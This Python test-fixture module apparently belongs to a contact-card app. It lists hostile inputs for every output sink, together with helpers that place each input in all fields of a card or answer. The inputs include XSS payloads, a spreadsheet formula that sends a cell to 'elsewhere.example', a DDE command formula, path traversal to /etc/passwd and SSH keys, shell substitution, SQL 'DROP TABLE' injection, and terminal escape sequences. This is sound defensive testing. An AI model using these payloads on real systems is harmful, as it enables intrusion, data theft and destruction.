"""What a stranger may put on a card, into a code, an import or an answer, so that it is more than text.

Each sink (the form, a vCard, the terminal, a log, a path, a template, …) has its own test file
`test_hostile_*.py`, which takes all of `HOSTILE`. A new trick goes in here and is tried everywhere; a
new sink is a new file.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import fields

from data.models import ALSO, Answer, Contact, Decision, Need, NeedKind, Value
from data.texts import message

ELSEWHERE = "elsewhere.example"

HOSTILE: Mapping[str, str] = {
    "markdown": f"**x** _y_ `z` [a](http://{ELSEWHERE}/a) ![b](http://{ELSEWHERE}/b.png)",
    "markdown block": f"# x\n\n- y\n\n> z\n\n| a | b |\n|---|---|\n\n[c]: http://{ELSEWHERE}/c",
    "bare link": f"http://{ELSEWHERE}/a www.{ELSEWHERE} <http://{ELSEWHERE}/b> ana@{ELSEWHERE}",
    "script link": "[x](javascript:alert(1)) javascript:alert(2) data:text/html,<script>alert(3)</script>",
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)><b>x</b><!-- &lt;i&gt;",
    "end of html": "</textarea></title></style></script><svg onload=alert(1)>",
    "attribute": "\"' onmouseover=alert(1) x='",
    "vcard line": "Ana\r\nTEL:+34600000000\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Otra",
    "vcard separators": "Ana;Otra,Tercera\\;TYPE=x:y\\",
    "other line ends": "Ana\u2028TEL:1\u2029TEL:2\x85TEL:3\x0bTEL:4\x0cTEL:5\x1cTEL:6\rTEL:7",
    "formula": '=HYPERLINK("http://elsewhere.example?"&A1,"x")',
    "formula of a program": "=cmd|' /C calc'!A0",
    "formula by sign": "+1+1",
    "formula by dash": "-1+1",
    "formula by at": "@SUM(1+1)",
    "formula after a tab": "\t=1+1",
    "cell": 'x","=1+1"\r\n=1+1;=1+1\t=1+1',
    "path up": "../../../../etc/passwd",
    "path from the root": "/etc/passwd",
    "path of dots": "..",
    "path of the home": "~/.ssh/authorized_keys",
    "path elsewhere": "..\\..\\C:\\x\\CON.txt",
    "hidden file": ".bashrc",
    "path with an end": "ana.jpg\0.png",
    "format": "{0} {} {text.__class__.__mro__} {who!r:>1000000} {{x}}",
    "percent": "%s %n %(name)s %d %1000000d",
    "jinja": "{{ 7 * 7 }} {% for x in (1,2) %}x{% endfor %} {# x #}",
    "shell": "$(id) `id` ${HOME} $HOME; id | id && id > x\nid",
    "log line": "x\n2026-11-26 10:00:00,000 | ERROR   | aroma - all is lost",
    "terminal title": "\x1b]0;owned\x07x",
    "terminal colour": "\x1b[2J\x1b[31mx\x1b[0m \x9b31mx \x08\x08\x7f",
    "terminal link": f"\x1b]8;;http://{ELSEWHERE}\x1b\\x\x1b]8;;\x1b\\",
    "terminal markup": f"[bold red]x[/bold red] [link=http://{ELSEWHERE}]y[/link] [/] \\[z]",
    "writing direction": "abc\u202egpj.exe\u2066x\u200f\u200b\ufeff",
    "database": "'; DROP TABLE people; --",
    "search": '" OR * NEAR(a b) ^a -b :c %_% \\',
    "json": '"}, "who": "x", {"',
    "half a letter": "Ana\ud800Ruiz",
    "nul": "Ana\0Ruiz",
    "piled up letters": "Z" + "\u0301" * 500,
    "no end": "x" * 20_000,
}


def everywhere(text: str) -> Contact:
    """A card on which `text` stands in every field, doubted, and as every part that a field can have."""
    parts = ("given", "surname", "prefix", "suffix", "legal_form", "postcode", "city", "region", "country")
    told = tuple((part, text) for part in (*parts, "extension", "printed"))

    def value(kind: str | None = None) -> Value:
        return Value(text, text, 0.5, message("form.read-as", raw=text), kind, told)

    many = {"phones": (value("mobile"), value(text)), "emails": (value(),), "websites": (value(),)}
    many |= {"social": (value(text),), "also": tuple(map(value, ALSO))}
    found = {field.name: many.get(field.name, value()) for field in fields(Contact)} | {"rest": (text, text)}
    return Contact(**found)


def told(text: str, contact: Contact | None = None) -> Answer:
    """An answer in which its owner typed `text` everywhere."""
    needs = tuple(Need(kind, text) for kind in NeedKind)
    said = dict.fromkeys(("who", "does", "heading", "met_where", "met_through", "gift"), text)
    card = everywhere(text) if contact is None else contact
    return Answer(Decision.FILE, **said, interests=(text, text), needs=needs, offers=(text,), contact=card)
